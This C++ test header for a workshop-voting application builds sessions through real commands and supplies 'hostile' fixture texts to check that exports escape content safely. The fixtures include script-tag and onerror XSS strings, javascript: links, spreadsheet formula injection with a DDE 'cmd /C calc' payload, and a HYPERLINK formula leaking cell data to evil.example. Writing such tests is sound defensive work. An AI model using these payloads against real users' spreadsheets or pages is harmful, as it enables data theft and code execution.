#pragma once
// Builds small workshops for the export tests through the same commands real people use, keeping
// the event log as it goes.
#include <stdexcept>
#include <string>
#include <vector>

#include "sessions/session.hpp"
#include "sessions/tokens.hpp"

namespace quorum::testing {

class WorkshopBuilder {
  public:
    explicit WorkshopBuilder(SessionConfig config, TimeMs start = 1'773'136'800'000) : now_(start) {
        if (config.code.empty()) config.code = "TST234";
        if (config.facilitator_token_hash.empty())
            config.facilitator_token_hash = hash_token("facilitator-secret");
        auto created = Session::create(std::move(config), now_);
        if (auto* e = std::get_if<RuleError>(&created)) throw std::logic_error(e->message);
        session_.emplace(std::move(std::get<Session>(created)));
        log_.push_back(Event{1, now_, ev::SessionCreated{session_->config()}});
    }

    ParticipantId join(const std::string& name, const std::string& area,
                       Sector sector = Sector::public_sector, Role role = Role::participant) {
        auto out = apply(
            Actor::anonymous(),
            cmd::Join{name, area, sector, role, hash_token("resume-" + std::to_string(++joined_))});
        return *out.joined;
    }
    void facilitate(const Command& c) { apply(Actor::facilitator(), c); }
    void vote(ParticipantId p, const std::string& scenario, const std::string& test, int value) {
        apply(Actor::of_participant(p), cmd::CastVote{scenario, test, value, std::nullopt, ""});
    }
    CommentId comment(ParticipantId p, const std::string& scenario, const std::string& test,
                      CommentKind kind, const std::string& text) {
        apply(Actor::of_participant(p), cmd::AddComment{scenario, test, kind, text, ""});
        return static_cast<CommentId>(session_->comments().size());
    }
    void endorse(ParticipantId p, CommentId c) { apply(Actor::of_participant(p), cmd::Endorse{c}); }

    const Session& session() const { return *session_; }
    const std::vector<Event>& log() const { return log_; }

  private:
    Outcome apply(const Actor& actor, const Command& command) {
        now_ += 1500;
        auto out = session_->apply(actor, command, now_);
        if (out.error) throw std::logic_error("refused: " + out.error->message);
        for (const auto& e : out.events) log_.push_back(e);
        return out;
    }

    TimeMs now_;
    std::size_t joined_ = 0;
    std::optional<Session> session_;
    std::vector<Event> log_;
};

/// Text written to break every export format: markup, formulas, table and list syntax, quotes
/// and line breaks.
inline const std::vector<std::string>& hostile_texts() {
    static const std::vector<std::string> texts{
        "<script>alert('owned')</script>",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed =1+1",
        "| col | umn |\n|---|---|",
        "```\ncode fence\n``` and `tick` and ~~strike~~",
        "\"double\" and 'single' quotes, plus a comma",
        "line one\nline two\r\n# not a heading\n- not a list\n1. not a list either\n> not a quote",
        "[click](javascript:alert(1)) ![img](http://evil.example/x.png)",
        "<img src=x onerror=alert(1)> &amp; &lt;b&gt;",
        "**bold** _em_ <!-- comment --> </textarea></style></svg>",
    };
    return texts;
}

/// A two-area session whose title, areas, scenario, names and comments are all hostile, with
/// enough voters per area (6) that both areas are shown on their own.
inline WorkshopBuilder hostile_workshop() {
    SessionConfig config;
    config.code = "HST234";
    config.title = "<script>alert('title')</script> & \"Co\" | =SUM(1)";
    config.areas = {"<b>Leeds</b>", "=Bradford"};
    config.scenarios = {{"hostile", "Scenario | with `ticks` and <i>tags</i>",
                         "Description with\nline breaks, <script>x</script> and =1+1", "", "", "",
                         ""}};
    WorkshopBuilder b(config);
    std::vector<ParticipantId> people;
    const std::vector<std::string> names{"=1+1",  "<i>Ann</i>", "Bob \"the\" | Builder",
                                         "-dash", "@at",        "Zoë"};
    for (int i = 0; i < 12; ++i)
        people.push_back(b.join(names[static_cast<std::size_t>(i) % names.size()],
                                config.areas[static_cast<std::size_t>(i % 2)],
                                i % 3 == 0 ? Sector::voluntary : Sector::public_sector));
    b.facilitate(cmd::OpenScenario{"hostile"});
    b.facilitate(cmd::OpenVoting{});
    for (std::size_t i = 0; i < people.size(); ++i) {
        b.vote(people[i], "hostile", "purposeful", 1 + static_cast<int>(i % 5));
        b.vote(people[i], "hostile", "proportionate", i % 2 ? 5 : 1);
        b.vote(people[i], "hostile", "responsible", i % 4 == 0 ? cant_say : 4);
    }
    const auto& texts = hostile_texts();
    for (std::size_t i = 0; i < texts.size(); ++i)
        b.comment(people[i % people.size()], "hostile",
                  i % 4 == 3 ? ""
                             : std::vector<std::string>{"purposeful", "proportionate",
                                                        "responsible"}[i % 3],
                  static_cast<CommentKind>(i % 4), texts[i]);
    b.facilitate(cmd::CloseVoting{});
    b.facilitate(cmd::Reveal{});
    return b;
}

}  // namespace quorum::testing
